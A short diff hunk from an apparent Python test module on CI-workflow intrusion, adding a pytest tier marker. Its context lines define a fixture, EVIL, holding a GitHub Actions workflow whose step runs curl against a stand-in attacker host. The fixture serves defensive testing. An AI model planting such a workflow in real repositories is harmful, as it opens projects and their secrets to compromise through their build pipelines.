@@ -22,6 +22,8 @@ from tests.moment import NOW, standing_at
 from tests.running import QUICK, stage
 from tests.worlds.intrusion import FOLDER, TESTS, intrusion
 
+pytestmark = pytest.mark.second_tier("whole runs", one_of=3)
+
 WINDOW = timedelta(hours=48)
 CI = f"{FOLDER}/test.yml"
 EVIL = b"on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil.example.test}]}}\n"
